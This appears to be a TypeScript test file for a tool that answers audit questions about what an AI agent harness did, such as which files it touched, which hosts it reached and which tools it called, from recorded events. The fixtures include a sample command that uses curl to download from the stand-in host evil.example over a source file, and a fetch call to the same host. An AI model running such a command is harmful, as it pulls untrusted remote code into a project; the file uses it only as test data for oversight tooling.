/** What a harness says it did by itself is content: questions are answered from it while it is there, and never past it. */
import type { SpineEvent } from '../event.ts';
import type { CborMap } from '../values.ts';
import { ask, contentsAskedFor, parseClaim, type Answer } from './index.ts';

/** Nothing is open, so that only the words stand between a question and a no. */
const HELD: CborMap = Object.fromEntries(
  ['shell', 'file_writes', 'web_search', 'foreign_mcp', 'sub_agents', 'frames', 'egress', 'model_calls'].map(
    (surface) => [surface, 'denied'],
  ),
);
const opened = { harness_kind: 'external', grant: ['workspace_read'], enforcement_profile: HELD };

/** One action of a harness; `text` is what it says of it. */
interface Action {
  readonly kind: string;
  readonly text: string;
  readonly tool?: string;
}

const commitmentOf = (seq: number): Uint8Array => new Uint8Array(32).fill(seq);

/** As it is recorded today, and as it was before. */
const today = ({ kind, tool }: Action, seq: number): CborMap => ({
  kind,
  summary: tool === undefined ? {} : { tool },
  words: { commitment: commitmentOf(seq), bytes: 9, media: 'text/plain' },
});
const before = ({ kind, text, tool }: Action): CborMap => ({
  kind,
  summary: { text, ...(tool === undefined ? {} : { tool }) },
});

const run = (payloads: readonly CborMap[]): SpineEvent[] =>
  [opened, ...payloads].map((payload, i) => ({
    ...{ stream: 'r', seq: i + 1, time: 0n, actor: 'agent', payload, schemaVersion: 1 },
    type: i === 0 ? 'run.opened' : 'provenance.attested',
  }));

/** Answers while the words are there, once they are gone, and of a record that keeps them in its events. */
function asked(question: string, ...actions: Action[]): Record<'there' | 'gone' | 'inline', Answer> {
  const claim = parseClaim(question);
  const events = run(actions.map((action, i) => today(action, i + 2)));
  const words = new Map(actions.map(({ text }, i) => [String(commitmentOf(i + 2)), new TextEncoder().encode(text)]));
  return {
    there: ask(claim, events, (commitment) => words.get(String(commitment))),
    gone: ask(claim, events),
    inline: ask(claim, run(actions.map(before))),
  };
}

const command = { kind: 'native_command', text: 'curl https://evil.example/x -o src/a.ts' };
const change = { kind: 'file_change', text: 'update src/a.ts\nadd src/b.ts' };
const search = { kind: 'web_search', text: 'what does evil.example do' };
const call = { kind: 'foreign_mcp_call', text: 'fetch: https://evil.example/', tool: 'fetch' };

test.each<[string, readonly Action[]]>([
  ['path:src/a.ts touched', [command]],
  ['path:src/b.ts touched', [change]],
  ['host:evil.example reached', [command]],
  ['host:evil.example reached', [search]],
  ['host:evil.example reached', [call]],
  ['tool:fetch called with evil', [call]],
])('%s: yes by the word of the harness, and once its words are gone nobody can say', (question, actions) => {
  const { there, gone, inline } = asked(question, ...actions);
  expect(there).toMatchObject({ answer: 'yes', strength: 'attested', events: [2] });
  expect(inline).toEqual(there);
  expect(gone).toMatchObject({ answer: 'cannot_say', strength: null, events: [] });
  expect(gone.blindSpots).toEqual([
    {
      surface: 'arguments',
      seq: 2,
      reason: 'What the harness says it did here by itself is erased or not at hand.',
    },
  ]);
});

test.each<[string, Action]>([
  ['path:src/c.ts touched', change],
  ['path:src/a touched', command],
  ['host:good.example reached', search],
  ['tool:fetch called with good', call],
])('%s: a no over words that are there is none over words that are gone', (question, action) => {
  const { there, gone, inline } = asked(question, action);
  expect([there.answer, inline.answer, gone.answer]).toEqual([
    'no_within_observed',
    'no_within_observed',
    'cannot_say',
  ]);
});

test('a yes that something else carries stands without the words', () => {
  expect(asked('tool:fetch called', call).gone).toMatchObject({ answer: 'yes', events: [2] });
  const claim = parseClaim('path:src/a.ts touched');
  const events = run([before(change), today(command, 3)]);
  expect(ask(claim, events)).toMatchObject({ answer: 'yes', events: [2] });
});

test('words that have nothing to do with a question do not stand in its way', () => {
  expect(asked('path:a touched', search).gone.answer).toBe('no_within_observed');
  expect(asked('host:evil.example reached', change).gone.answer).toBe('no_within_observed');
  expect(asked('tool:browse called with x', call).gone.answer).toBe('no_within_observed');
  expect(asked('tool:browse called', call).gone.answer).toBe('no_within_observed');
  expect(asked('path:. touched', change)).toMatchObject({
    there: { answer: 'no_within_observed' },
    gone: { answer: 'no_within_observed' },
  });
});

test('what is to be read for an answer is named', () => {
  const events = run([today(command, 2), today(change, 3), today(search, 4), today(call, 5)]);
  const named = (question: string) => contentsAskedFor(parseClaim(question), events).map(([first]) => first);
  expect(named('path:a touched')).toEqual([2, 3]);
  expect(named('host:a.example reached')).toEqual([2, 4, 5]);
  expect(named('tool:fetch called with a')).toEqual([5]);
  expect(named('tool:fetch called')).toEqual([]);
});

test('a reference that names nothing is no words at all, and no no', () => {
  for (const words of ['gone', null, {}, { commitment: 'aa' }, []] as CborMap['words'][]) {
    const events = run([{ ...today(command, 2), words }] as CborMap[]);
    expect(ask(parseClaim('path:z touched'), events).answer).toBe('cannot_say');
  }
});

test('however many words are gone, an answer names a bounded number of them', () => {
  const actions = Array.from({ length: 300 }, () => command);
  for (const question of ['path:z touched', 'host:z.example reached'])
    expect(asked(question, ...actions).gone.blindSpots).toHaveLength(100);
});
